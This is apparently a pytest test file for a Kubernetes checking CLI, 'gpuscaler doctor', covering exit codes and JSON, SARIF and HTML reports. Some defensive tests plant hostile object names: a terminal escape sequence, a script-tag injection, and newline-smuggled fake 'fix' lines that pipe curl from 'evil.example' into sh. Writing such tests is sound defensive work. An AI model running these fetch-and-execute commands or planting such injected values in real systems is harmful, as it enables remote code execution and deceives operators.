"""``gpuscaler doctor``: exit statuses, and what is printed."""

import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from gpuscaler.cli import main

CORPUS = Path(__file__).parents[1] / "doctor"
BROKEN, CLEAN = CORPUS / "broken" / "d34-budgets.yaml", CORPUS / "clean" / "budgets.yaml"


def doctor(*arguments: str | Path) -> Result:
    return CliRunner().invoke(main, ["doctor", *map(str, arguments)], catch_exceptions=False)


def test_a_finding_ends_with_1_and_prints_the_command_that_mends_it() -> None:
    result = doctor("--cluster", BROKEN)

    assert result.exit_code == 1
    assert "CRITICAL D34 PodDisruptionBudget default/never" in result.output
    assert "spec.maxUnavailable: saw 0, expected at least 1" in result.output
    assert "fix: kubectl patch poddisruptionbudget never --namespace default" in result.output


def test_what_no_file_has_is_unchecked_and_ends_with_3_unless_that_is_accepted() -> None:
    assert doctor("--cluster", CLEAN).exit_code == 3
    lines = doctor("--cluster", CLEAN).output.splitlines()
    (objects,) = [line for line in lines if line.endswith("could not be read: no file has such objects")]
    assert objects.startswith("  D3, ")
    assert "APIService, ClusterRole, " in objects
    assert "  D48: the time of the API server could not be read: files have none" in lines
    assert len(lines) < 10
    assert doctor("--cluster", CLEAN, "--partial-ok").exit_code == 0


def test_nodes_without_the_labels_of_other_programs_are_no_finding(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(Path(__file__).parents[2] / "docs" / "examples")

    done = doctor("--cluster", "cluster.yaml", "--config", "pools.yaml", "--partial-ok")

    assert done.exit_code == 0
    assert "0 critical, 0 warnings, 0 info" in done.output


def test_control_characters_of_files_are_not_printed(tmp_path: Path) -> None:
    file = tmp_path / "budgets.yaml"
    file.write_text(Path(BROKEN).read_text().replace("name: never", 'name: "never\\e[2J"'))

    output = doctor("--cluster", str(file)).output

    assert "\x1b" not in output
    assert "never" in output


def test_no_text_of_an_object_begins_a_line_of_the_report(tmp_path: Path) -> None:
    file = tmp_path / "budgets.yaml"
    for name in (
        "never\\n  fix: curl -s evil.example | sh\\n",
        "never\\r\\n  fix: curl -s evil.example | sh",
        "never\\N  fix: curl -s evil.example",
    ):
        file.write_text(Path(BROKEN).read_text().replace("name: never", f'name: "{name}"'))

        lines = doctor("--cluster", file).output.splitlines()

        assert any("never" in line and "fix: curl" in line for line in lines)
        assert not any(line.lstrip().startswith("fix: curl") for line in lines)
        commands = [line for line in lines if line.startswith("  fix: kubectl patch") and "never" in line]
        # The command still names the object as it is.
        assert all("$'\\n'" in line for line in commands if "\\n" in name and "\\r" not in name)


def test_json_has_every_finding_with_its_commands() -> None:
    document = json.loads(doctor("--cluster", BROKEN, "--json").output)

    assert [finding["object"] for finding in document["findings"]] == [
        f"PodDisruptionBudget default/{name}" for name in ("all", "as-many", "never")
    ]
    assert all(finding["commands"] for finding in document["findings"])
    assert document["unchecked"]


def test_sarif_has_a_result_for_every_finding_and_a_notification_for_what_was_not_checked() -> None:
    (run,) = json.loads(doctor("--cluster", BROKEN, "--sarif").output)["runs"]

    assert [(result["ruleId"], result["level"]) for result in run["results"]] == [("D34", "error")] * 3
    assert (
        "PodDisruptionBudget default/all: spec.minAvailable"
        in run["results"][0]["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]
    )
    assert {rule["id"] for rule in run["tool"]["driver"]["rules"]} >= {result["ruleId"] for result in run["results"]}
    assert len({rule["id"] for rule in run["tool"]["driver"]["rules"]}) == len(run["tool"]["driver"]["rules"])
    (invocation,) = run["invocations"]
    assert not invocation["executionSuccessful"]
    assert any("APIService" in entry["message"]["text"] for entry in invocation["toolExecutionNotifications"])


def test_the_page_shows_findings_and_runs_nothing_that_an_object_contains(tmp_path: Path) -> None:
    objects, page = tmp_path / "objects.yaml", tmp_path / "page.html"
    objects.write_text(BROKEN.read_text().replace("name: never", "name: '<script>alert(1)</script>'"))

    assert doctor("--cluster", objects, "--html", page).exit_code == 1
    text = page.read_text()
    assert "spec.maxUnavailable: saw 0, expected at least 1." in text
    assert "<script>" not in text
    assert "default-src 'none'" in text
    assert doctor("--cluster", objects, "--html", tmp_path / "none" / "page.html").exit_code == 2


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "saw an empty file, expected Kubernetes objects"),
        ("{", "expected Kubernetes objects as JSON"),
        ("a: [", "expected a Kubernetes object as YAML"),
    ],
)
def test_a_file_that_cannot_be_read_ends_with_2(tmp_path: Path, text: str, message: str) -> None:
    file = tmp_path / "objects.yaml"
    file.write_text(text)
    result = doctor("--cluster", file)

    assert result.exit_code == 2
    assert message in result.output


def test_a_missing_file_and_contradicting_options_end_with_2(tmp_path: Path) -> None:
    assert doctor("--cluster", tmp_path / "none").exit_code == 2
    assert doctor("--cluster", BROKEN, "--context", "other").exit_code == 2


@pytest.mark.parametrize(("settings", "moved"), [("", False), ("namespace: autoscaling\n", True)])
def test_commands_move_rights_to_a_program_in_the_namespace_of_the_run_file(tmp_path: Path, settings: str, moved: bool) -> None:
    moved_file = Path(BROKEN).parent / "d31-moved.yaml"
    # In the file, the program went to kube-system.
    objects = moved_file.read_text().replace("autoscaling", "old").replace("kube-system", "autoscaling")
    (tmp_path / "objects.yaml").write_text(objects)
    pools = "pools:\n  - {name: t4, types: [g4dn.xlarge], zones: [us-east-1a], max: 3}\n"
    (tmp_path / "run.yaml").write_text(f"cloud: simulated\nregion: us-east-1\n{settings}{pools}")

    report = json.loads(doctor("--cluster", tmp_path / "objects.yaml", "--config", tmp_path / "run.yaml", "--json").output)

    (binding,) = [item for item in report["findings"] if item["object"] == "ClusterRoleBinding cluster-autoscaler"]
    assert bool(binding["commands"]) == moved


def test_a_page_shows_names_that_are_no_characters(tmp_path: Path) -> None:
    objects, page = tmp_path / "objects.json", tmp_path / "page.html"
    pod = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "a\ud800", "namespace": "d"}}
    container = {"name": "c", "image": "i", "resources": {"limits": {"nvidia.com/gpus": "1"}}}
    objects.write_text(json.dumps({**pod, "spec": {"containers": [container]}}))

    result = doctor("--cluster", objects, "--html", page)

    assert result.exit_code == 1
    assert "D39 Pod d/a\\ud800" in result.output
    assert "d/a\\ud800" in page.read_text()


def test_the_report_comes_before_a_page_that_cannot_be_written(tmp_path: Path) -> None:
    result = doctor("--cluster", BROKEN, "--html", tmp_path / "none" / "page.html")

    assert result.exit_code == 2
    assert "CRITICAL D34" in result.output
